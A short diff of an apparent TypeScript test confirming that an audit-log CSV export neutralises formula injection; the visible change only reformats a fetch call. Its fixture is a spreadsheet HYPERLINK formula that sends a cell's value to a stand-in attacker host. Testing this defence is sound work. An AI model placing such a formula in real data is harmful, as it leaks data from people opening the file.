@@ -23,7 +23,9 @@ test('the audit CSV export neutralises a formula someone wrote into the trail; t
     const email = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
     await appendAudit(app.database.db, { actor: email, action: 'console.sign_in_failed', subject: email, details: { reason: 'email' } });
     const { b } = await signInToConsole(app, 'auditor@nhs.example', 'team_admin');
-    const res = await app.fetch('http://localhost:3000/console/audit?format=csv', { headers: { cookie: b.cookieHeader(new URL('http://localhost:3000/console/audit')) } });
+    const res = await app.fetch('http://localhost:3000/console/audit?format=csv', {
+      headers: { cookie: b.cookieHeader(new URL('http://localhost:3000/console/audit')) },
+    });
     assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
     const csv = { text: await res.text() };
     const row = csv.text.split('\n').find((line) => line.includes('console.sign_in_failed'))!;
